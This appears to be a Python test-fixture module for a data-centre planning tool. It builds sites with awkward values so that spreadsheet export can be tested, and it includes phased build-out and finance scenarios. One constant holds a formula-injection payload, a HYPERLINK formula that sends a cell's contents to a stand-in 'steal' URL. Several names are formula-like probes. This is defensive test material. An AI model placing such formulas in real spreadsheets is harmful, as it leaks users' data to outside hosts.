"""Awkward sites for the workbook tests: hostile text, criteria characters, zero capacities, a build-out."""

from __future__ import annotations

from dcplanner.model.buildout import Buildout, Candidate, DemandForecast, DemandPoint, DemandVariant
from dcplanner.model.site import Hall, Phase, Scenario, Site
from tests.factories import small_site

HOSTILE = '=HYPERLINK("http://example.invalid/steal?"&A1,"click")'


def hostile_site() -> Site:
    """The small test site with text that looks like formulas and ids that look like criteria.

    Hall ``A*`` (a SUMIFS wildcard) holds rows ``=R1`` and ``>R2``; a second hall has no rows
    and no IT budget; names start with ``=``, ``+``, ``-`` and ``@``; one scenario no longer
    applies to the base (its override is out of range).
    """
    site = small_site()
    site.name = HOSTILE
    site.description = "-2+3 plan\x07 with a bell character"
    site.location.name = "@SUM(1,2) 贵阳"
    hall = site.halls[0]
    hall.id, hall.name = "A*", "+1 hall"
    hall.rows[0].id, hall.rows[0].name = "=R1", "=1+1"
    hall.rows[1].id = ">R2"
    site.phases = [Phase(id="=P1", name="-phase")]
    for n, row in enumerate(hall.rows):
        for k, cab in enumerate(row.cabinets):
            cab.id = f"{row.id}-{k}"
            cab.name = HOSTILE if k == 0 else f"@cab {n}{k}"
            cab.phase_id = "=P1"
    site.halls.append(Hall(id="EMPTY", name="empty hall", x_m=20, width_m=5, depth_m=5, design_it_kw=0))
    site.scenarios = [
        Scenario(id="hot", name="=hot", overrides={"halls.*.rows.*.cabinets.*.design_kw": 12.0}),
        Scenario(id="broken", overrides={"halls.*.rows.*.cabinets.*.design_kw": -5.0}),
    ]
    return site


def unbudgeted_site() -> Site:
    """The small site with no IT budget in its hall: the budget check has no capacity."""
    site = small_site()
    site.halls[0].design_it_kw = 0
    return site


def phased_site() -> Site:
    """The small site with a build-out that exercises the Phases and Finance sheets.

    Compute revenue with vouchers, time-of-use prices (the energy price is then a weighted
    mean), quarterly decisions, a hall that covers the laid-out cabinets and an extension that
    is not laid out. Scenarios: ``tight`` cannot be scheduled (every month covered, no budget)
    and ``idle`` builds nothing (no IRR, no payback, nothing to levelise).
    """
    site = small_site()
    econ = site.economics
    econ.analysis_years = 6
    econ.revenue_model, econ.gpu_hour_price_cny = "compute", 12.0
    econ.voucher_share, econ.voucher_cap_cny_per_year = 0.2, 200_000.0
    econ.time_of_use.peak_hours, econ.time_of_use.peak_price_cny_per_kwh = "8-11,18-21", 0.9
    econ.time_of_use.valley_hours, econ.time_of_use.valley_price_cny_per_kwh = "0-6", 0.2
    base = [("2026-01", 0.0), ("2026-09", 0.02), ("2028-01", 0.07), ("2030-01", 0.11)]
    site.buildout = Buildout(
        start="2026-01",
        period="quarter",
        demand=DemandForecast(
            unit="it_mw",
            variants=[
                DemandVariant(id="low", points=[DemandPoint(month=m, value=0.6 * v) for m, v in base]),
                DemandVariant(id="base", points=[DemandPoint(month=m, value=v) for m, v in base]),
                DemandVariant(id="high", points=[DemandPoint(month=m, value=1.5 * v) for m, v in base]),
            ],
        ),
        candidates=[
            Candidate(id="H1", name="Hall 1 fit-out", covers=["H1"], capex_cny=3e6, lead_time_months=6),
            Candidate(id="EXT", name="=extension", kind="rows", it_kw=40.0, capex_cny=1.5e6, lead_time_months=9),
        ],
    )
    site.scenarios = [
        Scenario(
            id="tight",
            overrides={"buildout.coverage": "must_cover", "buildout.capex_cap_cny_per_year": 0.0},
        ),
        Scenario(
            id="idle",
            overrides={"buildout.candidates[H1].enabled": False, "buildout.candidates[EXT].enabled": False},
        ),
    ]
    return site
